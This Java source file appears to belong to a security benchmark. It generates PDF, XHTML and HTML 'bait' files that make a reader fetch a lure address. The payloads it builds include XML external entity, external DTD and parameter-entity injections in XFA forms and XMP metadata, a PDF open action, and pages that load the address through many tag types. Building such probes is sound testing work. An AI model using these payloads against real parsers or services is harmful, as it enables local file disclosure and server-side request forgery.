package org.marsad.bench.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.TreeMap;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDMetadata;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;

/**
 * Documents that have their readers fetch what a lure holds: by entities in the forms (XFA) and the statements (XMP) of a PDF and in
 * XHTML, and by all that a browser would load of a page.
 */
public final class Baits {

    /** Every bait shows this. */
    public static final String VISIBLE = "visible words";

    private static final String TITLE_ENTITY = "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf"
            + "-syntax-ns#'><rdf:Description rdf:about='' xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:title><rdf:Alt>"
            + "<rdf:li xml:lang='x-default'>&e;</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>";
    private static final String FORM_ENTITY = "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template "
            + "xmlns='http://www.xfa.org/schema/xfa-template/3.0/'>"
            + "<subform><field name='a'><value><text>&e;</text></value></field></subform></template><xfa:datasets "
            + "xmlns:xfa='http://www.xfa.org/schema/xfa-data/1.0/'><xfa:data><a>&e;</a></xfa:data></xfa:datasets></xdp:xdp>";

    private Baits() {
    }

    /** Writes all baits for a lure into a folder. */
    public static void write(Lure lure, Path folder) throws IOException {
        Files.createDirectories(folder);
        for (Map.Entry<String, byte[]> bait : of(lure).entrySet()) {
            Files.write(folder.resolve(bait.getKey()), bait.getValue());
        }
    }

    /** The baits by their file names. */
    static Map<String, byte[]> of(Lure lure) throws IOException {
        Map<String, byte[]> baits = new TreeMap<>();
        Map<String, String> addresses = Map.of("file", lure.fileAddress(), "web", lure.webAddress());
        for (Map.Entry<String, String> address : addresses.entrySet()) {
            String kind = address.getKey() + ".";
            String entity = "<!DOCTYPE x [<!ENTITY e SYSTEM '" + address.getValue() + "'>]>";
            String subset = "<!DOCTYPE x SYSTEM '" + address.getValue() + "' [<!ENTITY e 'x'>]>";
            String parameter = "<!DOCTYPE x [<!ENTITY % p SYSTEM '" + address.getValue() + "'> %p; <!ENTITY e 'x'>]>";
            for (Map.Entry<String, String> head : Map.of("entity", entity, "subset", subset, "parameter", parameter).entrySet()) {
                String how = head.getKey() + "-" + kind;
                baits.put("form-" + how + "pdf", pdf(pdf -> addForm(pdf, head.getValue() + FORM_ENTITY)));
                baits.put("statement-" + how + "pdf", pdf(pdf -> addStatement(pdf, head.getValue() + TITLE_ENTITY)));
                baits.put("page-" + how + "xhtml", utf8("<?xml version='1.0'?>" + head.getValue().replace("DOCTYPE x", "DOCTYPE html")
                        + "<html xmlns='http://www.w3.org/1999/xhtml'><body><p>" + VISIBLE + " &e;</p></body></html>"));
            }
            baits.put("opened-" + kind + "pdf", pdf(pdf -> addAction(pdf, address.getValue())));
            baits.put("loaded-" + kind + "html", utf8(page(address.getValue())));
        }
        return baits;
    }

    private static String page(String address) {
        return "<!DOCTYPE html><html><head><base href='" + address + "'><meta http-equiv=refresh content='0;url=" + address + "'>"
                + "<link rel=stylesheet href='" + address + "s.css'><script src='" + address + "s.js'></script>"
                + "<style>@import url('" + address + "i.css');</style></head><body background='" + address + "b'><p>" + VISIBLE
                + "</p><img src='" + address + "i.png'><iframe src='" + address + "'></iframe><object data='" + address + "o'></object>"
                + "<embed src='" + address + "e'><video src='" + address + "v'></video><svg><image href='" + address + "g'/></svg>"
                + "<link rel=import href='" + address + "h'></body></html>";
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** Changes a document. */
    @FunctionalInterface
    private interface Change {

        void apply(PDDocument pdf) throws IOException;
    }

    private static byte[] pdf(Change change) throws IOException {
        try (PDDocument pdf = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage();
            pdf.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(pdf, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.newLineAtOffset(72, 700);
                content.showText(VISIBLE);
                content.endText();
            }
            change.apply(pdf);
            pdf.save(out);
            return out.toByteArray();
        }
    }

    private static void addForm(PDDocument pdf, String xml) throws IOException {
        COSStream stream = pdf.getDocument().createCOSStream();
        try (var out = stream.createOutputStream()) {
            out.write(utf8("<?xml version='1.0'?>" + xml));
        }
        PDAcroForm form = new PDAcroForm(pdf);
        form.getCOSObject().setItem(COSName.XFA, stream);
        pdf.getDocumentCatalog().setAcroForm(form);
    }

    private static void addStatement(PDDocument pdf, String xml) throws IOException {
        PDMetadata metadata = new PDMetadata(pdf);
        metadata.importXMPMetadata(utf8("<?xml version='1.0'?>" + xml));
        pdf.getDocumentCatalog().setMetadata(metadata);
    }

    private static void addAction(PDDocument pdf, String address) {
        PDActionURI action = new PDActionURI();
        action.setURI(address);
        pdf.getDocumentCatalog().setOpenAction(action);
    }
}
